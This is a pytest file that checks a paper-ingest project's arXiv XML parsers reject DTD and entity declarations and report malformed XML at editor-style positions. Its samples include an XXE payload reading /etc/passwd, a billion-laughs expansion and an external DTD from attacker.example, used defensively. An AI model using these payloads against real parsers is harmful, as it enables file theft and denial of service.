"""Every XML source refuses documents that declare a DTD or entities (XXE, billion laughs) and reports
malformed XML at the line and column an editor shows (both from 1, a column counting characters)."""

from __future__ import annotations

from collections.abc import Callable

import pytest

from papertide.ingest.sources import arxiv_api, arxiv_oai, arxiv_rss
from papertide.ingest.sources.base import SourceError

XXE = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
BILLION_LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY lol "lol">'
    b'<!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">'
    b'<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]><x>&lol3;</x>'
)
EXTERNAL_DTD = b'<?xml version="1.0"?><!DOCTYPE x SYSTEM "http://attacker.example/x.dtd"><x/>'
# `</titel>` closes `<title>`: expat points at the `t` of `titel`, the 16th character of line 3 (`é` is
# two bytes but one column).
MISMATCHED_TAG = '<?xml version="1.0"?>\n<feed>\n  <title>Café</titel>\n</feed>\n'.encode()
# A second root element starts in the first column, where a 0-based count would say 0.
SECOND_ROOT = b"<feed>\n</feed>\n<feed/>\n"

PARSERS: dict[str, Callable[..., object]] = {
    "arxiv-oai": arxiv_oai.parse_list_records,
    "arxiv-api": arxiv_api.parse_feed,
    "arxiv-rss": arxiv_rss.parse_feed,
}


@pytest.mark.parametrize("source", PARSERS)
@pytest.mark.parametrize(
    "payload", [XXE, BILLION_LAUGHS, EXTERNAL_DTD], ids=["xxe", "billion-laughs", "external-dtd"]
)
def test_documents_declaring_a_dtd_or_entities_are_refused(source: str, payload: bytes) -> None:
    with pytest.raises(
        SourceError, match=rf"^{source}: evil\.xml was refused: it declares a DTD or entities"
    ):
        PARSERS[source](payload, location="evil.xml")


@pytest.mark.parametrize("source", PARSERS)
@pytest.mark.parametrize(
    ("payload", "position", "reason"),
    [
        (MISMATCHED_TAG, "line 3, column 16", "mismatched tag"),
        (SECOND_ROOT, "line 3, column 1", "junk after document element"),
    ],
    ids=["mismatched-tag", "second-root"],
)
def test_malformed_xml_is_reported_where_an_editor_shows_it(
    source: str, payload: bytes, position: str, reason: str
) -> None:
    with pytest.raises(SourceError) as caught:
        PARSERS[source](payload, location="bad.xml")

    assert str(caught.value) == f"{source}: bad.xml is not well-formed XML ({position}): {reason}"
